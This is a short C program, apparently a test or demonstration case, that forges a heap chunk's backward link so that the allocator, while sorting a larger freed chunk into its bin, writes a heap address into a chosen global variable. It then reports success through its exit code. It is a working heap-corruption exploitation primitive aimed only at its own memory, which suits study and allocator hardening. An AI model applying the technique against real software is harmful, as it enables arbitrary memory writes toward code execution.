/*
 * metadata: a chunk in a sorted bin has its backward link changed. A larger chunk that is sorted in before it
 * stores its own address where that link says.
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

static Word limit[4] = {16};

int main(void) {
  settle(2016);
  Word *small = allocate(2000);
  allocate(40);
  Word *large = allocate(2016);
  allocate(40);
  release((void *)small);
  allocate(4000);                             /* sorts the small one into its bin */
  small[1] = (uint64_t)(uintptr_t)limit - 16; /* bk */
  release((void *)large);
  allocate(5000);                             /* sorts the large one */
  return limit[0] > 0x1000 ? GOAL_REACHED : 0;
}
